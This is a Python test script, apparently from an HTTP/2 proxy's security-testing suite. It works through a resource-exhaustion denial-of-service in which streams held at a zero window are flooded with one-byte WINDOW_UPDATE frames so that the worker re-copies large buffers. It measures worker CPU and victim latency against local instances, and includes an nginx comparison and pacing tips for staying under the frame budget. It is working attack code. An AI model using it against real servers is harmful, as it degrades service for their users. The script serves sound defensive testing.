"""A stream holding a response read "beyond its window" (up to 256 KiB in H2Stream.out) is
re-sliced on every window opening: `resume` frames what the window allows and keeps
`data[sent:]`, a fresh copy of the rest.  A client whose windows are 0 and that opens them
one byte at a time (WINDOW_UPDATE increment 1, 13 bytes on the wire) makes the worker copy up
to 256 KiB per frame.  The WINDOW_UPDATE budget does not bound it: each 1-byte DATA frame we
send credits 2 tokens (defences.UPDATE_CREDIT), so one update buys two.

Set-up (per connection): 100 streams, large windows, read fast for 1 s (the backend sockets'
receive buffers grow), then SETTINGS_INITIAL_WINDOW_SIZE 0: every stream now keeps one read.
Then: phase A, 1-byte WINDOW_UPDATEs round-robin over the 100 streams, 100 frames a batch,
for 4 s; phase B, the same against streams holding little (16 KiB bodies) as the control.
Measured: worker CPU, frames sent, victim HTTP/1.1 latency (a process of its own).  h2c, 1 worker.
`--nginx`: the same against nginx.  PACE=seconds between batches (default 0.01; at 0.006 it sometimes holds, at 0.002 the frames come faster than
the worker answers and the WINDOW_UPDATE budget ends the connection)."""
import os
import socket
import sys
import struct
import threading
import time

import h2.settings

from h import (Backend, Nginx, VictimProcess, arm, bulk, cpu_s, get_headers, h2_machine, h2_socket, pump_events, rss_kib,
               show, small_backend_process, start_proxy)

arm(120)
PACE = float(os.environ.get("PACE", "0.01"))   # 100 frames every PACE s (~10,000 WINDOW_UPDATE frames a second)
be_big = Backend(bulk(1 << 30))
be_small = Backend(bulk(16 << 10))
small = small_backend_process()      # the victims' backend, in a process of its own
if "--nginx" in sys.argv:         # the same against nginx (1 worker; h2c and HTTP/1.1 listeners)
    p = Nginx([("/small", small), ("/big", be_big.port), ("/", be_small.port)], "proxy_max_temp_file_size 0;")
    pid, H1PORT, WHO = p.worker_pid(), p.h1port, "nginx"
else:
    p = start_proxy([{"path": "/small", "to": f"http://127.0.0.1:{small}/small"},
                     {"path": "/big", "to": f"http://127.0.0.1:{be_big.port}/big"},
                     {"path": "/", "to": f"http://127.0.0.1:{be_small.port}/"}],
                    timeouts={"connect": 2, "proxy": 60, "client_header": 5, "keepalive": 5})
    pid, H1PORT, WHO = p.worker_pids()[0], p.port, "mpm"
time.sleep(0.5)


def window_update(sid: int, inc: int) -> bytes:
    return struct.pack(">I", 4)[1:] + bytes([8, 0]) + struct.pack(">I", sid) + struct.pack(">I", inc)


def setup(path: bytes, fast: float):
    s = h2_socket(p)
    c = h2_machine({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: (1 << 31) - 1})
    c.increment_flow_control_window((1 << 31) - 1 - 65535)
    sids = []
    for i in range(100):
        sid = c.get_next_available_stream_id()
        sids.append(sid)
        c.send_headers(sid, get_headers(path + b"%d" % i), end_stream=True)
    s.sendall(c.data_to_send())
    if fast:
        pump_events(s, c, fast, ack=True)
    c.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 0})
    s.sendall(c.data_to_send())
    pump_events(s, c, 1.5, ack=False)      # the ACK, and what was in flight
    # Bring every stream's window back to exactly 0 (what was in flight left it below).
    top = b""
    for sid in sids:
        stream = c._get_stream_by_id(sid)
        deficit = -stream._inbound_window_manager.current_window_size
        if deficit > 0:
            top += window_update(sid, deficit)
    s.sendall(top)
    time.sleep(0.3)
    return s, sids


def drain(s, counter, stop):
    s.settimeout(0.2)
    while not stop.is_set():
        try:
            d = s.recv(1 << 20)
        except (socket.timeout, TimeoutError):
            continue
        except OSError:
            counter["closed"] = True
            return
        if not d:
            counter["closed"] = True
            return
        counter["bytes"] += len(d)


def attack(label, s, sids, seconds=4.0):
    batch = b"".join(window_update(sid, 1) for sid in sids)
    counter = {"bytes": 0, "closed": False}
    stop = threading.Event()
    t = threading.Thread(target=drain, args=(s, counter, stop), daemon=True)
    t.start()
    victim = VictimProcess(H1PORT, seconds)
    c0, t0, frames = cpu_s(pid), time.monotonic(), 0
    while time.monotonic() - t0 < seconds and not counter["closed"]:
        try:
            s.sendall(batch)
        except OSError:
            break
        frames += len(sids)
        time.sleep(PACE)
    cpu = cpu_s(pid) - c0
    el = time.monotonic() - t0
    stop.set()
    t.join()
    show(f"{WHO} {label}", f"{frames} WINDOW_UPDATE frames ({frames * 13 >> 10} KiB) in {el:.1f} s; worker CPU {cpu:.2f} s "
                f"({cpu / el * 100:.0f}% of a core), {cpu / max(frames, 1) * 1e6:.1f} us a frame; the client "
                f"received {counter['bytes'] >> 10} KiB; connection closed by proxy: {counter['closed']}; "
                f"worker RSS {rss_kib(pid) >> 10} MiB")
    show("   victim HTTP/1.1 GETs meanwhile", victim.summary())
    s.close()


s, sids = setup(b"/big", 1.0)
attack("A: 100 streams each holding a read (up to 256 KiB)", s, sids)
time.sleep(1)
s, sids = setup(b"/s", 0)
attack("B: control, 100 streams holding <=16 KiB", s, sids)
p.stop()
